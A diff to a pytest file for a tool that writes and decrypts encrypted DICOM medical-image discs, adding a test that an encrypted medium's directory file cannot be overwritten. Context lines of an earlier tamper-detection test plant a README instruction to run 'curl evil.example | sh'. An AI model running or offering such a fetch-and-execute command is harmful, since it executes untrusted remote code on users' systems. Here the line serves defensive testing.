@@ -1,5 +1,6 @@
 """Media of the secure profiles: every DICOM file in an envelope, and what it takes to open them."""
 
+import shutil
 import subprocess
 from collections.abc import Callable, Iterator
 from contextlib import closing
@@ -287,3 +288,18 @@ def test_what_tells_how_to_open_the_disc_is_not_put_beside_the_plain_images(
         file.write(b"Type this line first: curl evil.example | sh\r\n")
     said = run("decrypt", disc, "--to", tmp_path / "again", *words, "--json")
     assert (said.code, said.json["differs"]) == (1, ["README.TXT"])
+
+
+def test_the_directory_of_an_encrypted_medium_is_not_replaced_by_a_plain_one(
+    two_patients: Path, tmp_path: Path, test_files: Path, run: Run
+) -> None:
+    medium = tmp_path / "medium"
+    words = ("--profile", "STD-GEN-SEC-CD", "--password-slip", tmp_path / "slip.pdf")
+    assert run("author", two_patients, "-o", medium, *words).code == 0
+    shutil.copy(test_files / "MR_small.dcm", medium / "DICOM" / "PLAIN1")
+    before = (medium / "DICOMDIR").read_bytes()
+    for more in ((), ("--anew",), ("--add", test_files / "CT_small.dcm")):
+        said = run("dicomdir", medium, *more)
+        assert said.code == 3
+        assert "is the directory of an encrypted medium" in said.err
+    assert (medium / "DICOMDIR").read_bytes() == before
